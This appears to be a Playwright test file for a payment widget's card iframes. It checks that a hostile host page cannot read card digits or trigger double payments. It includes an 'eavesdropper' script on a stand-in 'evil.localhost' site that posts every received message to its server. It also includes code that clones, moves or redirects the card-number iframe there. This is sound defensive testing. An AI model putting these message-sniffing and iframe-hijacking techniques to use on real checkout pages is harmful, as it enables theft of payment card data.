import type { Page } from '@playwright/test';
import words from '#locales/en' with { type: 'json' };
import { reportedSabotage, spyOnBuiltIns, survivableSabotage } from '../../pages/shadowing.ts';
import { expect, test } from '../../support/fixtures.ts';
import { paymentRequest } from '../../support/sandbox-control.ts';
import type { Shop } from '../../support/shop.ts';

const number = '4928716350849271';
const cvv = '739';

/** Five consecutive digits each. The first six and the last four may be known: the payment API returns them. */
const secrets = Array.from({ length: 9 }, (_, start) => number.slice(start + 2, start + 7));

/** Leaves the page first: until then it may report further errors. */
async function forgetErrors(page: Page, { pageErrors }: Shop): Promise<void> {
  await page.goto('about:blank');
  pageErrors.length = 0;
}

test.describe('A page that replaces built-in functions', () => {
  test('sees no digits in any call, and the card is paid', async ({ page, shop }) => {
    // The widget makes ids of random numbers, which could contain the digits.
    const script = `crypto.getRandomValues = (values) => values.fill(0xab); ${spyOnBuiltIns(secrets)}`;
    await shop.open({ head: `<script>${script}</script>` });
    const { form } = shop;
    await form.type({ number, cvv });
    expect(await page.evaluate('callCount')).toBeGreaterThan(100);
    expect(await page.evaluate('findings')).toEqual([]);
    await page.evaluate(`addEventListener('pagehide', () => {
        sessionStorage.setItem('findings', 'findings: ' + findings.join()); })`);
    await form.pay();
    await shop.result();
    expect(await page.evaluate(`sessionStorage.getItem('findings')`)).toBe('findings: ');
    expect(await shop.payments()).toBe(1);
  });

  test('shows a usable form when they throw or return nonsense @full', async ({
    page,
    sandbox,
    shop,
  }) => {
    for (const [what, { script }] of Object.entries(survivableSabotage)) {
      await test.step(what, async () => {
        await forgetErrors(page, shop);
        await shop.open({ head: `<script>${script}</script>` });
        await shop.form.number.fill(number);
        expect(page.url()).toBe(`${sandbox.site.origin}/checkout`);
        expect(shop.pageErrors).toEqual([]);
      });
    }
  });

  test('shows an error message when the form cannot work with them @full', async ({
    page,
    sandbox,
    shop,
  }) => {
    await page.clock.install();
    for (const [what, { script, message, error }] of Object.entries(reportedSabotage)) {
      await test.step(what, async () => {
        await forgetErrors(page, shop);
        await shop.open({ head: `<script>${script}</script>` });
        await page.clock.runFor(100);
        await expect(page.locator('.wpwl-container-card iframe').first()).toBeAttached();
        await page.clock.runFor(9_000);
        await expect(page.getByRole('alert')).toHaveText(words[message]);
        expect(page.url()).toBe(`${sandbox.site.origin}/checkout`);
        await expect
          .poll(() => [...new Set(shop.pageErrors)])
          .toEqual(error === undefined ? [] : [error]);
      });
    }
  });
});

/** A document of another site that sends all messages it receives to its server. */
const eavesdropper = `<script>
  addEventListener('message', ({ data }) => {
    fetch('/received', { method: 'POST', body: JSON.stringify(data) });
  });</script>`;

test.describe('A page that changes the iframe of the number', () => {
  test('gets an empty field and no digits when it copies, moves or redirects the iframe @full', async ({
    page,
    sandbox,
    shop,
  }) => {
    const evil = sandbox.siteAt('evil.localhost');
    const evilUrl = evil.serve({ path: '/frame', head: eavesdropper });
    await page.clock.install();
    await shop.open();
    const { form } = shop;

    await test.step('copy', async () => {
      await form.fill({ number, cvv });
      await page.evaluate(`new Promise((resolve) => {
        const own = document.querySelector('iframe[name="card.number"]');
        const copy = own.cloneNode(true);
        copy.onload = resolve;
        document.body.append(copy);
      })`);
      await expect(page.locator('iframe').last().contentFrame().locator('input')).toHaveCount(0);
      await page.evaluate(`document.body.lastElementChild.remove()`);
    });
    await test.step('move', async () => {
      await page.evaluate(`(() => {
        const own = document.querySelector('iframe[name="card.number"]');
        own.parentNode.append(own);
      })()`);
      await expect(form.number).toHaveValue('');
      await form.number.fill(number);
    });
    await test.step('redirect', async () => {
      await page.evaluate(`new Promise((resolve) => {
        const own = document.querySelector('iframe[name="card.number"]');
        window.ownSource = own.src;
        own.addEventListener('load', resolve, { once: true });
        own.src = ${JSON.stringify(evilUrl)};
      })`);
      await form.pay();
      await page.clock.runFor(8_100);
      await expect(form.message).not.toHaveText('');
      expect(evil.requests().filter((request) => request.includes('/received'))).toEqual([]);
      await page.evaluate(`document.querySelector('iframe[name="card.number"]').src = ownSource`);
      await expect(form.number).toHaveValue('');
    });
    await form.number.fill(number);
    await form.pay();
    await shop.result();
    expect(evil.received().join()).not.toContain(number.slice(2, 8));
    expect(await shop.payments()).toBe(1);
  });

  const changes = [
    `own.remove()`,
    `own.src = 'about:blank'`,
    `own.src = own.src`,
    `own.srcdoc = '<input>'`,
    `own.contentWindow.location = own.src`,
    `own.replaceWith(own.cloneNode(true))`,
    `document.body.append(own)`,
  ];
  for (const [index, change] of changes.entries())
    test(`cannot cause a second payment while the first is sent, by ${change} ${index === 0 ? '' : '@full'}`, async ({
      page,
      sandbox,
      shop,
    }) => {
      await shop.open();
      const { form } = shop;
      await form.fill({ number, cvv });
      await sandbox.fault({ ...paymentRequest, kind: 'delay', delayMs: 1_500 });
      const sent = page.waitForRequest((request) => request.url().endsWith('/payment'));
      await form.pay();
      await sent;
      await page.evaluate(
        `{ const own = document.querySelector('iframe[name="card.number"]'); ${change}; }`,
      );
      const resultPage = page.getByRole('heading', { name: 'Thank you' });
      // The frame is lost, and the payment may have been made: the form asks the gateway before it opens again.
      const nothingCharged = form.message.filter({ hasText: words.nothingCharged });
      await expect(resultPage.or(nothingCharged)).toBeVisible();
      const isPaid = await resultPage.isVisible();
      expect(await shop.payments()).toBe(isPaid ? 1 : 0);
    });

  test('sends nothing when the iframe is loaded again before the request, and pays when the field is filled again @full', async ({
    page,
    shop,
  }) => {
    const reloads = [
      `own.src = own.src`,
      `own.contentWindow.location = own.src`,
      `own.parentNode.append(own)`,
    ];
    for (const name of ['card.number', 'card.cvv'])
      for (const reload of reloads) {
        await test.step(`${name}: ${reload}`, async () => {
          const script = `wpwlOptions.onBeforeSubmitCard = () => new Promise((resolve) => {
            window.submit = () => { delete window.submit; resolve(true); };
          });`;
          await shop.open({ script });
          const { form } = shop;
          async function submit(): Promise<void> {
            await form.pay();
            await page.waitForFunction('window.submit');
          }
          await form.fill({ number, cvv });
          await submit();
          await page.evaluate(`new Promise((resolve) => {
            const own = document.querySelector('iframe[name="${name}"]');
            own.addEventListener('load', resolve, { once: true });
            ${reload};
          })`);
          await page.evaluate('submit()');
          await expect(form.message.or(form.hints).filter({ hasText: /./ })).toBeVisible();
          expect(await shop.posts()).toBe(0);
          await form.number.fill(number);
          await form.cvv.fill(cvv);
          await submit();
          await page.evaluate('submit()');
          await shop.result();
          expect(await shop.payments()).toBe(1);
        });
      }
  });
});
